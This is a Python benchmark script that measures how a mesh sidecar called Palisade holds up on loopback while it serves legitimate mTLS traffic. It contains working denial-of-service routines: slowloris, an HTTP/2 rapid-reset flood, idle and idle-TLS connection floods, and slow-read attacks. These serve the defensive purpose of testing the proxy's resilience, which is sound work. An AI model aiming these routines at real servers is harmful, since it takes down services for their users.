#!/usr/bin/env python3
"""bench/under_attack.py: legitimate mTLS traffic through a Palisade pair while sidecar B's inbound
port is attacked (issue 16).

    client --HTTP/1.1--> sidecar A outbound --mTLS h2--> sidecar B inbound --> app
                                                            ^
                         attackers (other source addresses: 127.0.1.x, 127.0.2.x, 127.0.3.x)

Phases, in turn, each while 200 req/s of legitimate requests flow (open model: latency counts from
the scheduled send time, so queueing counts against the proxy):
  baseline     no attack
  slowloris    1,000 connections with a valid mesh certificate, each dripping an HTTP/1.1 request
               head at one byte per second (reconnecting when B closes them)
  rapid-reset  HTTP/2 over mTLS: streams opened and cancelled (RST_STREAM) as fast as the socket
               takes them, on 8 connections (reconnecting when B closes them)
  idle         a burst of 10,000 TCP connections to B's inbound that send nothing, held
  idle-tls     10,000 mTLS connections with a valid mesh certificate that send the HTTP/2 preface
               and SETTINGS, then nothing (an HTTP/2 connection with no stream), held
  slow-read    250 connections with a valid mesh certificate, opened 50 a second, each asking for
               an 8 MB answer through a 4 KB receive buffer and then reading nothing (held past
               B's 60 s limits.sendTimeout: this phase lasts at least 95 s). Fewer than the other
               attacks because each holds up to 8 MB of the kernel's socket buffers
               (sender's and receiver's) until it is cut off
  slow-client  not an attack: 20 downloads of 8 MB through A's outbound by the pod's own app,
               which reads nothing of them for the phase (a slow consumer); A's memory and the
               legitimate requests sharing A's connection to B show what it holds up
Reported per phase: legitimate requests sent / 200 / failed, p50 / p99 / max latency, sidecar B's
resident memory (VmRSS at the end, VmHWM so far), A's peak, and what the attack achieved (connections
opened, closed by B). Everything on loopback; every loop is bounded by the phase's duration.

Usage: bench/under_attack.py [--palisade target/release/palisade] [--phase-seconds 20]
       bench/under_attack.py --phases slow-read --slow-readers 400 --b-memory-limit-mb 256
       bench/under_attack.py --phases slow-read-h2 --h2-slow-readers 40 --b-memory-limit-mb 256
         (sidecar B in a memory cgroup of 256 MiB, as the chart's limit: 40 x 50 stalled streams
         are about 360 MB without limits.maxMemoryBytes, whose default is 3/4 of that limit)
Needs: root (raises the file-descriptor limit for 10,000 connections; makes the memory cgroup),
Python 3.9+.
"""
import argparse
import asyncio
import json
import os
import random
import resource
import ssl
import subprocess
import sys
import tempfile
import time

LEGIT_RATE = 200
PORTS = dict(app=28080, a_out=28001, a_in=28006, a_admin=28000, b_out=28101, b_in=28106, b_admin=28100)


def sidecar_yaml(d, name, pki, dest):
    p = PORTS
    own = "a" if name == "a" else "b"
    return f"""identity: {{files: {{cert: {pki}/{name}/tls.crt, key: {pki}/{name}/tls.key, trustBundle: {pki}/{name}/ca.crt}}}}
trustDomain: demo.local
inbound: {{listen: "127.0.0.1:{p[own + '_in']}", app: "127.0.0.1:{p['app']}", mtls: STRICT}}
outbound:
  listen: "127.0.0.1:{p[own + '_out']}"
  destinations: {dest}
admin: {{listen: "127.0.0.1:{p[own + '_admin']}"}}
threads: 1
drainPeriod: 1s
telemetry: {{accessLog: false, events: {{sink: "file:{d}/{name}-events.jsonl", format: ocsf}}}}
"""


# ---------------------------------------------------------------- the app
# Twice the kernel's largest send buffer (tcp_wmem's 4 MB here): a reader that takes nothing
# leaves the sidecar's write waiting.
LARGE = 8 << 20
MEDIUM = 1 << 20


async def app_main(port):
    body = b"ok\n"
    resp = b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\ncontent-type: text/plain\r\n\r\n" + body
    piece = b"x" * 65536

    async def answer(w, size):
        # In pieces, each waiting for the socket: asyncio's transport would otherwise copy the
        # whole answer into its buffer and move what is left of it on every send, and the app,
        # not the sidecar, would be what slows the legitimate requests down.
        w.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\ncontent-type: text/plain\r\n\r\n" % size)
        for _ in range(size // len(piece)):
            w.write(piece)
            await w.drain()

    async def handle(r, w):
        try:
            while True:
                head = await r.readuntil(b"\r\n\r\n")
                cl = 0
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        cl = int(line.split(b":")[1])
                if cl:
                    await r.readexactly(cl)
                if head.startswith(b"GET /large "):
                    await answer(w, LARGE)
                elif head.startswith(b"GET /medium "):
                    await answer(w, MEDIUM)
                else:
                    w.write(resp)
                    await w.drain()
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.LimitOverrunError):
            pass
        finally:
            w.close()

    server = await asyncio.start_server(handle, "127.0.0.1", port, backlog=1024)
    async with server:
        await server.serve_forever()


# ---------------------------------------------------------------- legitimate load
async def legit(seconds, out):
    """200 req/s, open model, HTTP/1.1 keep-alive to A's outbound; JSON summary to `out`."""
    idle = []
    lat, failures, ok, sent = [], 0, 0, 0
    host = b"GET / HTTP/1.1\r\nhost: b.demo\r\n\r\n"

    async def one(scheduled):
        nonlocal failures, ok
        conn = idle.pop() if idle else None
        try:
            if conn is None:
                conn = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORTS["a_out"]), 2)
            r, w = conn
            w.write(host)
            head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 2)
            status = int(head.split(b" ", 2)[1])
            cl = 0
            for line in head.split(b"\r\n"):
                if line.lower().startswith(b"content-length:"):
                    cl = int(line.split(b":")[1])
            if cl:
                await asyncio.wait_for(r.readexactly(cl), 2)
            lat.append(time.monotonic() - scheduled)
            if status == 200:
                ok += 1
            else:
                failures += 1
            idle.append(conn)
        except Exception:
            failures += 1
            if conn:
                conn[1].close()

    start = time.monotonic()
    tasks = []
    while True:
        scheduled = start + sent / LEGIT_RATE
        if scheduled - start >= seconds:
            break
        delay = scheduled - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)
        tasks.append(asyncio.create_task(one(scheduled)))
        sent += 1
    await asyncio.gather(*tasks)
    lat.sort()
    pct = lambda q: round(lat[min(len(lat) - 1, int(q * len(lat)))] * 1000, 2) if lat else None
    json.dump(dict(sent=sent, ok=ok, failed=failures, p50=pct(0.5), p99=pct(0.99),
                   max=round(lat[-1] * 1000, 2) if lat else None), open(out, "w"))


# ---------------------------------------------------------------- attacks
def client_tls(pki, alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(f"{pki}/atk/ca.crt")
    ctx.load_cert_chain(f"{pki}/atk/tls.crt", f"{pki}/atk/tls.key")
    ctx.check_hostname = False  # B is checked by its chain; its SAN is a SPIFFE ID
    ctx.set_alpn_protocols([alpn])
    return ctx


class Tally:
    def __init__(self):
        self.opened = self.closed_by_peer = self.errors = 0


async def connect_b(ctx, src, t, backoff):
    """One mTLS connection to B's inbound from `src`, counted in `t`; None (after `backoff`) if refused."""
    try:
        conn = await asyncio.wait_for(asyncio.open_connection(
            "127.0.0.1", PORTS["b_in"], ssl=ctx, local_addr=(src, 0)), 10)
    except Exception:
        t.errors += 1
        await asyncio.sleep(backoff)
        return None
    t.opened += 1
    return conn


async def slowloris(seconds, pki, conns, out):
    ctx = client_tls(pki, "http/1.1")
    head = b"GET /slow HTTP/1.1\r\nhost: b.demo\r\nx-padding: " + b"a" * 200 + b"\r\n\r\n"
    t = Tally()
    end = time.monotonic() + seconds

    async def worker(i):
        src = f"127.0.1.{1 + i % 250}"
        while time.monotonic() < end:
            conn = await connect_b(ctx, src, t, 1)
            if conn is None:
                continue
            r, w = conn
            try:
                for b in head:
                    if time.monotonic() >= end:
                        break
                    w.write(bytes([b]))
                    await w.drain()
                    try:
                        data = await asyncio.wait_for(r.read(4096), 1.0)
                        # Anything back (the 408) or end of stream: B ended it.
                        t.closed_by_peer += 1
                        t.answered = getattr(t, "answered", 0) + (1 if data.startswith(b"HTTP/1.1 408") else 0)
                        break
                    except asyncio.TimeoutError:
                        pass
            except (ConnectionError, ssl.SSLError, OSError):
                t.closed_by_peer += 1
            finally:
                w.close()

    await asyncio.gather(*(worker(i) for i in range(conns)))
    json.dump(vars(t), open(out, "w"))


def h2_frame(ftype, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream.to_bytes(4, "big") + payload


async def rapid_reset(seconds, pki, conns, out):
    ctx = client_tls(pki, "h2")
    # HPACK: :method GET (static 2), :scheme https (7), :path / (4), :authority b.demo (literal, name 1)
    headers = bytes([0x82, 0x87, 0x84, 0x01, 6]) + b"b.demo"
    t = Tally()
    t.streams_reset = 0
    end = time.monotonic() + seconds

    async def worker(i):
        src = f"127.0.2.{1 + i}"
        while time.monotonic() < end:
            conn = await connect_b(ctx, src, t, 0.2)
            if conn is None:
                continue
            r, w = conn

            t.alpn = w.get_extra_info("ssl_object").selected_alpn_protocol()

            async def drain():
                while data := await r.read(65536):
                    t.bytes_back = getattr(t, "bytes_back", 0) + len(data)

            reader = asyncio.create_task(drain())
            try:
                w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
                stream = 1
                while time.monotonic() < end and not reader.done() and not w.is_closing() and stream < 2**31 - 2:
                    batch = bytearray()
                    for _ in range(50):
                        batch += h2_frame(1, 0x5, stream, headers) + h2_frame(3, 0, stream, (8).to_bytes(4, "big"))
                        stream += 2
                    w.write(bytes(batch))
                    await w.drain()
                    t.streams_reset += 50
                    # Let the reader see B's frames (and its close): drain() need not yield.
                    await asyncio.sleep(0)
                if reader.done() or w.is_closing():
                    t.closed_by_peer += 1
            except (ConnectionError, ssl.SSLError, OSError):
                t.closed_by_peer += 1
            finally:
                reader.cancel()
                w.close()

    await asyncio.gather(*(worker(i) for i in range(conns)))
    json.dump(vars(t), open(out, "w"))


async def idle(seconds, conns, out):
    t = Tally()
    socks = []
    end = time.monotonic() + seconds
    for i in range(conns):
        src = f"127.0.3.{1 + i % 250}"
        try:
            socks.append(await asyncio.wait_for(asyncio.open_connection(
                "127.0.0.1", PORTS["b_in"], local_addr=(src, 0)), 2))
            t.opened += 1
        except Exception:
            t.errors += 1
    remaining = end - time.monotonic()
    if remaining > 0:
        await asyncio.sleep(remaining)
    for r, w in socks:
        if r.at_eof() or w.is_closing():
            t.closed_by_peer += 1
        w.close()
    json.dump(vars(t), open(out, "w"))


async def idle_tls(seconds, pki, conns, out):
    """`conns` mTLS connections (a valid mesh certificate, HTTP/2) that send the connection preface
    and SETTINGS, then nothing: an HTTP/2 connection with no stream open, held for the phase. Opened
    100 at a time, from 250 source addresses (under the per-source limit)."""
    ctx = client_tls(pki, "h2")
    t = Tally()
    held = []
    end = time.monotonic() + seconds
    gate = asyncio.Semaphore(100)

    async def one(i):
        async with gate:
            if time.monotonic() >= end:
                return
            conn = await connect_b(ctx, f"127.0.6.{1 + i % 250}", t, 0)
            if conn is None:
                return
            r, w = conn
            try:
                w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
                await w.drain()
                held.append(conn)
            except (ConnectionError, ssl.SSLError, OSError):
                t.closed_by_peer += 1
                w.close()

    await asyncio.gather(*(one(i) for i in range(conns)))
    t.open_after_burst = len(held)
    remaining = end - time.monotonic()
    if remaining > 0:
        await asyncio.sleep(remaining)
    for r, w in held:
        # An end of stream seen by the reader (behind what B sent before it) means B closed it.
        if r.at_eof() or w.is_closing() or getattr(r, "_eof", False):
            t.closed_by_peer += 1
        w.close()
    json.dump(vars(t), open(out, "w"))


async def small_window_connection(src, port, ctx, t):
    """A connection from `src` whose receive buffer is 4 KB (TLS when `ctx`), counted in `t`;
    None if it could not be made."""
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    if src:
        sock.bind((src, 0))
    sock.setblocking(False)
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port)), 10)
        tls = dict(ssl=ctx, server_hostname="b.demo") if ctx else {}
        conn = await asyncio.wait_for(asyncio.open_connection(sock=sock, **tls), 10)
    except Exception:
        t.errors += 1
        sock.close()
        return None
    t.opened += 1
    return conn


async def read_to_end(r):
    """Whatever is left to read, until the end of the stream or 5 s of silence."""
    got = bytearray()
    try:
        while data := await asyncio.wait_for(r.read(1 << 20), 5):
            got += data
    except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
        pass
    return got


async def hold_download(conn, end, t):
    """Asks for LARGE bytes and reads none of them until `end`; then reads what is left: short
    of the whole answer, the download was cut off (counted in `t.cut`)."""
    r, w = conn
    try:
        w.write(b"GET /large HTTP/1.1\r\nhost: b.demo\r\n\r\n")
        await w.drain()
        await asyncio.sleep(max(0, end - time.monotonic()))
        if len(await read_to_end(r)) < LARGE:
            t.cut += 1
    finally:
        w.close()


async def slow_read(seconds, pki, conns, out):
    """Each connection asks for LARGE bytes through a small receive window and reads none of
    them; at the end, what each got before its end of stream says whether B cut it."""
    ctx = client_tls(pki, "http/1.1")
    t = Tally()
    t.cut = 0
    end = time.monotonic() + seconds

    async def worker(i):
        # 50 a second: an attacker holding connections, not a burst of downloads (answers of
        # 8 MB all at once are a load of gigabytes, whatever the reader does).
        await asyncio.sleep(i / 50)
        conn = await small_window_connection(f"127.0.4.{1 + i % 250}", PORTS["b_in"], ctx, t)
        if conn is None:
            return
        await hold_download(conn, end, t)

    await asyncio.gather(*(worker(i) for i in range(conns)))
    json.dump(vars(t), open(out, "w"))


async def slow_read_h2(seconds, pki, conns, out):
    """HTTP/2: each connection grants the largest flow-control windows, opens 50 streams asking for
    1 MB each and reads nothing; at the end, whether B reset the streams (RST_STREAM seen)."""
    ctx = client_tls(pki, "h2")
    # HPACK: :method GET (static 2), :scheme https (7), :path /medium (literal, name 4), :authority
    # b.demo, and palisade-orig-proto: HTTP/1.1 (new name), as a peer sidecar sends for an HTTP/1.1
    # app (B then speaks HTTP/1.1 to its app, as for every request from A).
    headers = bytes([0x82, 0x87, 0x04, 7]) + b"/medium" + bytes([0x01, 6]) + b"b.demo"
    headers += bytes([0x00, 19]) + b"palisade-orig-proto" + bytes([8]) + b"HTTP/1.1"
    streams = 50
    t = Tally()
    t.streams = t.streams_reset = 0
    end = time.monotonic() + seconds

    async def worker(i):
        await asyncio.sleep(i / 5)
        conn = await small_window_connection(f"127.0.5.{1 + i % 250}", PORTS["b_in"], ctx, t)
        if conn is None:
            return
        r, w = conn
        try:
            big = (2**31 - 1).to_bytes(4, "big")
            frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, (4).to_bytes(2, "big") + big)
            frames += h2_frame(8, 0, 0, (2**31 - 1 - 65535).to_bytes(4, "big"))
            for n in range(streams):
                frames += h2_frame(1, 0x5, 1 + 2 * n, headers)
            w.write(frames)
            await w.drain()
            t.streams += streams
            await asyncio.sleep(max(0, end - time.monotonic()))
            # Now read it all: RST_STREAM frames (type 3) B sent for the streams it gave up on.
            buf = await read_to_end(r)
            pos = 0
            while pos + 9 <= len(buf):
                length = int.from_bytes(buf[pos:pos + 3], "big")
                if buf[pos + 3] == 3:
                    t.streams_reset += 1
                pos += 9 + length
        finally:
            w.close()

    await asyncio.gather(*(worker(i) for i in range(conns)))
    json.dump(vars(t), open(out, "w"))


async def slow_client(seconds, conns, out):
    """Not an attack: the pod's own app, through A's outbound, downloading 8 MB answers it reads
    nothing of for a while (a slow consumer); what A holds for it shows in A's memory."""
    t = Tally()
    t.cut = 0
    end = time.monotonic() + seconds

    async def worker(i):
        await asyncio.sleep(i / 10)
        conn = await small_window_connection(None, PORTS["a_out"], None, t)
        if conn is None:
            return
        await hold_download(conn, end, t)

    await asyncio.gather(*(worker(i) for i in range(conns)))
    json.dump(vars(t), open(out, "w"))


# ---------------------------------------------------------------- orchestration
def memory_cgroup(limit):
    """A memory cgroup of `limit` bytes beside this process's own (v2, else v1): its path."""
    own = [l.split(":", 2) for l in open("/proc/self/cgroup").read().splitlines()]
    v2 = [path for _, ctl, path in own if ctl == ""]
    v1 = [path for _, ctl, path in own if "memory" in ctl.split(",")]
    if v1:
        path, limit_file = f"/sys/fs/cgroup/memory{v1[0].rstrip('/')}/palisade-bench-b", "memory.limit_in_bytes"
    elif v2:
        parent = f"/sys/fs/cgroup{v2[0].rstrip('/')}"
        path, limit_file = f"{parent}/palisade-bench-b", "memory.max"
        try:
            open(f"{parent}/cgroup.subtree_control", "w").write("+memory")
        except OSError as e:
            sys.exit(f"cannot enable the memory controller under {parent} ({e}): run from a cgroup of its own")
    else:
        sys.exit("no memory cgroup controller")
    os.makedirs(path, exist_ok=True)
    open(f"{path}/{limit_file}", "w").write(str(limit))
    return path


def rss_kb(pid):
    f = {l.split(":")[0]: l.split()[1] for l in open(f"/proc/{pid}/status") if l.startswith(("VmRSS", "VmHWM"))}
    return int(f["VmRSS"]), int(f["VmHWM"])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--palisade", default="target/release/palisade")
    ap.add_argument("--phase-seconds", type=float, default=20)
    ap.add_argument("--phases", default="baseline,slowloris,rapid-reset,idle,slow-read,slow-read-h2,slow-client")
    ap.add_argument("--slow-readers", type=int, default=250, help="connections of the slow-read phase")
    ap.add_argument("--h2-slow-readers", type=int, default=10, help="connections of the slow-read-h2 phase")
    ap.add_argument("--idle-tls", type=int, default=10000, help="connections of the idle-tls phase")
    ap.add_argument("--b-memory-limit-mb", type=int, help="run sidecar B in a memory cgroup of this size")
    ap.add_argument("--role")
    ap.add_argument("--args", default="[]")
    a = ap.parse_args()
    if a.role:
        args = json.loads(a.args)
        coro = {"app": app_main, "legit": legit, "slowloris": slowloris, "rapid-reset": rapid_reset,
                "idle": idle, "idle-tls": idle_tls, "slow-read": slow_read, "slow-read-h2": slow_read_h2,
                "slow-client": slow_client}[a.role]
        asyncio.run(coro(*args))
        return
    # 10,000 idle connections need more descriptors than the usual 1,024 (the hard limit may be
    # raised only by root; below it, as far as it goes).
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (65536, max(hard, 65536)))
    except (ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 12000:
        sys.exit(f"needs 12,000 file descriptors for the idle phase; the limit is {hard}")
    binary = os.path.abspath(a.palisade)
    d = tempfile.mkdtemp(prefix="palisade-attack-")
    pki = f"{d}/pki"
    subprocess.run([binary, "ca", "init", "--trust-domain", "demo.local", "--out", f"{pki}/ca"], check=True,
                   stdout=subprocess.DEVNULL)
    for name in ["a", "b", "atk"]:
        subprocess.run([binary, "ca", "issue", "--ca", f"{pki}/ca", "--spiffe-id",
                        f"spiffe://demo.local/ns/demo/sa/{name}", "--out", f"{pki}/{name}"], check=True,
                       stdout=subprocess.DEVNULL)
    me = [sys.executable, os.path.abspath(__file__)]
    procs = []

    def spawn(cmd, log, cgroup=None):
        def enter():
            if cgroup:
                open(f"{cgroup}/cgroup.procs", "w").write(str(os.getpid()))
        p = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=open(f"{d}/{log}", "w"), stderr=subprocess.STDOUT,
                             preexec_fn=enter)
        procs.append(p)
        return p

    cgroup = memory_cgroup(a.b_memory_limit_mb << 20) if a.b_memory_limit_mb else None

    try:
        spawn(me + ["--role", "app", "--args", json.dumps([PORTS["app"]])], "app.log")
        dest = f'[{{authority: b.demo, address: "127.0.0.1:{PORTS["b_in"]}", identity: "spiffe://demo.local/ns/demo/sa/b"}}]'
        for name, dst in [("b", "[]"), ("a", dest)]:
            open(f"{d}/{name}.yaml", "w").write(sidecar_yaml(d, name, pki, dst))
        import socket
        deadline = time.monotonic() + 20
        while True:
            try:
                socket.create_connection(("127.0.0.1", PORTS["app"]), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    sys.exit(f"the app did not start; logs in {d}")
                time.sleep(0.05)
        b = spawn([binary, "sidecar", "--config", f"{d}/b.yaml"], "b.log", cgroup)
        a_proc = spawn([binary, "sidecar", "--config", f"{d}/a.yaml"], "a.log")
        deadline = time.monotonic() + 20
        import urllib.request
        for port in (PORTS["a_admin"], PORTS["b_admin"]):
            while True:
                try:
                    if urllib.request.urlopen(f"http://127.0.0.1:{port}/ready", timeout=1).status == 200:
                        break
                except Exception:
                    pass
                if time.monotonic() > deadline:
                    sys.exit(f"sidecars not ready; logs in {d}")
                time.sleep(0.05)
        secs = a.phase_seconds
        phases = [("baseline", None), ("slowloris", ["slowloris", [secs, pki, 1000]]),
                  ("rapid-reset", ["rapid-reset", [secs, pki, 8]]), ("idle", ["idle", [secs, 10000]]),
                  ("idle-tls", ["idle-tls", [secs, pki, a.idle_tls]]),
                  ("slow-read", ["slow-read", [max(secs, 95), pki, a.slow_readers]]),
                  ("slow-read-h2", ["slow-read-h2", [max(secs, 95), pki, a.h2_slow_readers]]),
                  ("slow-client", ["slow-client", [secs, 20]])]
        phases = [p for p in phases if p[0] in a.phases.split(",")]
        rows = []
        for name, attack in phases:
            # Legitimate load for as long as the attack lasts (its first argument).
            phase_secs = attack[1][0] if attack else secs
            lp = spawn(me + ["--role", "legit", "--args", json.dumps([phase_secs, f"{d}/{name}-legit.json"])],
                       f"{name}-legit.log")
            ap_ = None
            if attack:
                ap_ = spawn(me + ["--role", attack[0], "--args", json.dumps(attack[1] + [f"{d}/{name}-attack.json"])],
                            f"{name}-attack.log")
            peak_rss = a_peak = 0
            while lp.poll() is None and b.poll() is None:
                peak_rss = max(peak_rss, rss_kb(b.pid)[0])
                a_peak = max(a_peak, rss_kb(a_proc.pid)[0])
                time.sleep(0.2)
            if b.poll() is not None:
                print(f"sidecar B exited during {name} (status {b.returncode}"
                      f"{', killed: out of memory?' if b.returncode == -9 else ''}); logs in {d}")
                if cgroup:
                    print(open(f"{cgroup}/memory.failcnt").read().strip() if os.path.exists(f"{cgroup}/memory.failcnt")
                          else open(f"{cgroup}/memory.events").read())
                break
            if ap_:
                ap_.wait(timeout=phase_secs + 60)
            rss, hwm = rss_kb(b.pid)
            legit_r = json.load(open(f"{d}/{name}-legit.json"))
            atk = json.load(open(f"{d}/{name}-attack.json")) if attack else {}
            rows.append((name, legit_r, atk, peak_rss, hwm, a_peak))
            # Let B reap what the attack left before the next phase.
            time.sleep(2)
        closed = []
        if b.poll() is None:
            metrics = urllib.request.urlopen(f"http://127.0.0.1:{PORTS['b_admin']}/metrics", timeout=5).read().decode()
            closed = [l for l in metrics.splitlines()
                      if l.startswith(("palisade_connections_closed_total", "palisade_requests_shed_total"))
                      and not l.endswith(" 0")]
        print(f"| phase | legit sent | 200 | failed | p50 ms | p99 ms | max ms | B RSS peak MB (during) | B VmHWM MB "
              f"| A RSS peak MB | attack |")
        print("| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | --- |")
        for name, l, atk, peak, hwm, a_peak in rows:
            print(f"| {name} | {l['sent']} | {l['ok']} | {l['failed']} | {l['p50']} | {l['p99']} | {l['max']} | "
                  f"{peak / 1024:.1f} | {hwm / 1024:.1f} | {a_peak / 1024:.1f} | {json.dumps(atk) if atk else '-'} |")
        print()
        print("sidecar B counters at the end:")
        for l in closed:
            print("   ", l)
        print(f"logs: {d}")
    finally:
        for p in procs:
            p.terminate()
        for p in procs:
            try:
                p.wait(timeout=5)
            except subprocess.TimeoutExpired:
                p.kill()


if __name__ == "__main__":
    main()
